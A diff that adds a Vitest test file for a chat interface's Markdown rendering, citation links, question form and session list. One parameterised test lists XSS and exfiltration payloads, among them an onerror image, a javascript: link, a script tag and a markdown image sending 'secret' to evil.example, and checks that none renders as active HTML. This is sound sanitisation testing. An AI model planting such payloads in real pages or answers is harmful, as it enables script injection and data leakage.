@@ -1,0 +1,73 @@
+import { describe, expect, test } from "vitest";
+import { Composer } from "#app/ui/chat/composer.tsx";
+import { Markdown } from "#app/ui/chat/markdown.tsx";
+import { Message } from "#app/ui/chat/message.tsx";
+import { SessionList } from "#app/ui/chat/session-list.tsx";
+import { render, textOf } from "./render.tsx";
+
+describe("answers", () => {
+  test("basic markdown becomes elements", async () => {
+    const html = await render(
+      <Markdown text={"# Plan\n**Bold** and *slanted*\n- one\n- two\n\n1. first\n2. second"} />,
+    );
+    expect(html).toMatch(/<h3[^>]*>Plan<\/h3>/);
+    expect(html).toContain("<strong>Bold</strong> and <em>slanted</em>");
+    expect(html).toMatch(/<ul[^>]*><li>one<\/li><li>two<\/li><\/ul>/);
+    expect(html).toMatch(/<ol[^>]*><li>first<\/li><li>second<\/li><\/ol>/);
+  });
+
+  test("a line led by an emoji is a heading", async () => {
+    expect(await render(<Markdown text={"📌 Decisions\nNone."} />)).toMatch(
+      /<h3[^>]*>📌 Decisions<\/h3><p>None/,
+    );
+  });
+
+  test.each([
+    "<img src=x onerror=alert(1)>",
+    "![x](https://evil.example/?q=secret)",
+    "[click](javascript:alert(1))",
+    '<a href="https://evil.example">x</a>',
+    "**<script>alert(1)</script>**",
+  ])("nothing in an answer can run or call home: %s", async (text) => {
+    const html = await render(<Markdown text={text} />);
+    expect(html).not.toMatch(/<(img|a|script|iframe|link|style)\b/i);
+  });
+
+  test("citations name meeting, speaker and time and lead to the line", async () => {
+    const citation = {
+      meeting_id: "m1",
+      meeting_title: "Weekly sync",
+      scheduled_at: "2025-11-04T09:30:00Z",
+      segment_id: "s7",
+      timestamp: "00:12:41",
+      speaker: "Priya",
+    };
+    const html = await render(<Message role="assistant" message="Yes." citations={[citation]} />);
+    expect(html).toContain('href="/meeting-summary/m1?tab=transcript#line-s7"');
+    expect(textOf(html)).toMatch(/Weekly sync .*Priya 12:41/);
+  });
+});
+
+describe("asking", () => {
+  test("the question box is a plain form", async () => {
+    const html = await render(<Composer sessionId="c1" />, "/memory-gpt");
+    expect(html).toContain('placeholder="Type your question..."');
+    expect(html).toContain('name="session_id" value="c1"');
+    expect(html).toContain('<label for="query"');
+  });
+
+  test("while an answer is pending, input and send are disabled", async () => {
+    const html = await render(<Composer pending />, "/memory-gpt");
+    expect(html.match(/disabled=""/g)).toHaveLength(2);
+  });
+
+  test("sessions can be opened, renamed and deleted without scripts", async () => {
+    const sessions = [{ session_id: "c1", title: "Battery", updated_at: "2025-11-04T09:30:00Z" }];
+    const html = await render(<SessionList sessions={sessions} currentId="c1" />, "/memory-gpt");
+    expect(textOf(html)).toContain("New Chat");
+    expect(html).toContain('href="/memory-gpt?session=c1&amp;rename=c1"');
+    expect(html).toContain('name="intent" value="delete-session"');
+    const renaming = await render(<SessionList sessions={sessions} renamingId="c1" />, "/memory-gpt");
+    expect(renaming).toMatch(/name="new_label"[^>]*maxLength="40"[^>]*value="Battery"/);
+  });
+});
